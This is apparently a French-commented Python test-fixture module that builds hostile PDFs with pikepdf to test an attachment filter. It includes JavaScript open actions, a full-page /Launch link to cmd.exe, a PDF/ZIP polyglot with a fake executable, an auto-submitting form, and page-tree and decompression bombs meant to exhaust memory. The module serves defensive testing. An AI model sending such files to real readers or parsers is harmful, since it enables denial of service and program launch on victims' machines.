"""Des PDF fabriqués avec pikepdf pour essayer le contrôle des pièces jointes comme un attaquant : chacun est un
PDF ordinaire d'une page auquel on ajoute une seule chose hostile."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _document(pages: int = 1) -> pikepdf.Pdf:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    return document


def _octets(document: pikepdf.Pdf, **options) -> bytes:
    tampon = io.BytesIO()
    document.save(tampon, **options)
    return tampon.getvalue()


def ordinaire(pages: int = 1) -> bytes:
    return _octets(_document(pages))


def avec_lien_et_signet() -> bytes:
    """Un document comme en produit un traitement de texte : un lien vers un site, un signet, l'ouverture à la
    première page. Rien d'actif : il doit passer."""
    document = _document(2)
    lien = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 700, 300, 720]),
        A=Dictionary(S=Name.URI, URI=String("https://www.ars.sante.fr/")),
    )
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(lien)]))
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
    with document.open_outline() as plan:
        plan.root.append(pikepdf.OutlineItem("Page 2", 1))
    return _octets(document)


def polyglotte() -> bytes:
    """Un PDF suivi d'une archive ZIP : un lecteur PDF l'ouvre, un lecteur ZIP aussi."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zip_:
        zip_.writestr("facture.exe", b"MZ" + b"\x00" * 64)
    return ordinaire() + archive.getvalue()


def open_action_javascript() -> bytes:
    document = _document()
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('bonjour');"))
    return _octets(document)


def javascript_nomme() -> bytes:
    """Du JavaScript de niveau document (arbre de noms /JavaScript), exécuté à l'ouverture sans OpenAction."""
    document = _document()
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print();")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return _octets(document)


def lien_launch() -> bytes:
    """Un lien de la page qui lance un programme (action /Launch), caché dans les annotations de la page."""
    document = _document()
    lien = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 595, 842]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    document.pages[0].Annots = Array([document.make_indirect(lien)])
    return _octets(document)


def lien_vers(adresse: str) -> bytes:
    """Un lien ordinaire (action /URI) dont l'adresse n'est pas forcément une page web."""
    document = _document()
    lien = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 700, 300, 720]),
        A=Dictionary(S=Name.URI, URI=String(adresse)),
    )
    document.pages[0].Annots = Array([document.make_indirect(lien)])
    return _octets(document)


def action_a_l_ouverture_de_page() -> bytes:
    """Une action automatique (/AA) à l'ouverture de la page : une soumission de formulaire vers un site."""
    document = _document()
    soumission = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://exemple.invalid/")))
    document.pages[0].AA = Dictionary(O=soumission)
    return _octets(document)


def fichier_incorpore() -> bytes:
    document = _document()
    document.attachments["lisez-moi.txt"] = pikepdf.AttachedFileSpec(document, b"charge utile")
    return _octets(document)


def chiffre(*, mot_de_passe_utilisateur: str = "") -> bytes:
    """Chiffré (AES-256) ; sans mot de passe d'ouverture, il s'ouvre pourtant sans rien demander."""
    chiffrement = pikepdf.Encryption(owner="proprietaire", user=mot_de_passe_utilisateur, R=6)
    return _octets(_document(), encryption=chiffrement)


def arbre_qui_boucle(profondeur: int = 12, largeur: int = 8) -> bytes:
    """Quelques kilo-octets : chaque nœud /Pages cite `largeur` fois le nœud du dessous, si bien que l'arbre
    déplié compte largeur**profondeur pages (8**12, 68 milliards)."""
    document = _document()
    noeud = document.pages[0].obj
    for _ in range(profondeur):
        noeud = document.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([noeud] * largeur), Count=1))
    document.Root.Pages.Kids = Array([noeud])
    return _octets(document)


def arbre_qui_se_cite() -> bytes:
    """Le nœud racine /Pages se cite lui-même parmi ses enfants."""
    document = _document()
    racine = document.Root.Pages
    racine.Kids = Array([document.pages[0].obj, racine])
    return _octets(document)


def tronque() -> bytes:
    """Un envoi coupé en route : la moitié d'un PDF de trois pages."""
    entier = ordinaire(pages=3)
    return entier[: len(entier) // 2]


PAS_UN_PDF = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
ENTETE_SEULE = b"%PDF-1.7\n" + b"rien d'autre\n"


def _a_la_main(objets: list[bytes]) -> bytes:
    """Un PDF écrit octet par octet (objets 1 à n, table des objets classique), pour ce que pikepdf refuse de
    fabriquer : l'objet 1 est le catalogue, 2 l'arbre des pages, 3 l'unique page."""
    sortie, positions = bytearray(b"%PDF-1.7\n"), []
    for numero, corps in enumerate(objets, start=1):
        positions.append(len(sortie))
        sortie += b"%d 0 obj\n%s\nendobj\n" % (numero, corps)
    table = len(sortie)
    sortie += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objets) + 1)
    sortie += b"".join(b"%010d 00000 n \n" % position for position in positions)
    sortie += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objets) + 1, table)
    return bytes(sortie)


PAGES_A_LA_MAIN = [
    b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
]


def grand_tableau(entiers: int = 500_000) -> bytes:
    """Un PDF valide dont un objet est un tableau de `entiers` zéros : 2 octets chacun dans le fichier, près de
    cent en mémoire une fois lus par qpdf (500 000 : 1 Mo reçu, une centaine de Mo pour l'analyser)."""
    return _a_la_main([*PAGES_A_LA_MAIN, b"[" + b"0 " * entiers + b"]"])


def bombe_de_decompression(taille: int = 100 * 1024 * 1024) -> bytes:
    """Un flux d'objets compressé (100 Ko) qui se décompresse en `taille` octets de blancs : qpdf doit le
    décompresser pour lire l'objet 5 qu'il contient. Table des objets en flux (obligatoire avec un flux
    d'objets) : écrite à la main elle aussi."""
    entete = b"5 0 "
    compresseur = zlib.compressobj(9)
    flux = compresseur.compress(entete + b"<< /Bombe true >>")
    bloc = b" " * (1024 * 1024)
    flux += b"".join(compresseur.compress(bloc) for _ in range(taille // len(bloc))) + compresseur.flush()
    objets = [
        PAGES_A_LA_MAIN[0].replace(b"/Extra 4 0 R", b"/Extra 5 0 R"),
        *PAGES_A_LA_MAIN[1:],
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(entete), len(flux), flux),
    ]
    sortie, positions = bytearray(b"%PDF-1.7\n"), []
    for numero, corps in enumerate(objets, start=1):
        positions.append(len(sortie))
        sortie += b"%d 0 obj\n%s\nendobj\n" % (numero, corps)
    table = len(sortie)
    # Entrées de 7 octets : type (1 : en clair à tel octet, 2 : dans tel flux d'objets), position, génération.
    en_clair = [b"\x01" + position.to_bytes(4, "big") + bytes(2) for position in [*positions, table]]
    entrees = [b"\x00" + bytes(4) + b"\xff\xff", *en_clair[:4], b"\x02" + (4).to_bytes(4, "big") + bytes(2)]
    donnees = b"".join([*entrees, en_clair[4]])  # 0 libre, 1 à 4 en clair, 5 au rang 0 du flux 4, 6 : la table
    sortie += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(donnees)
    sortie += b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (donnees, table)
    return bytes(sortie)
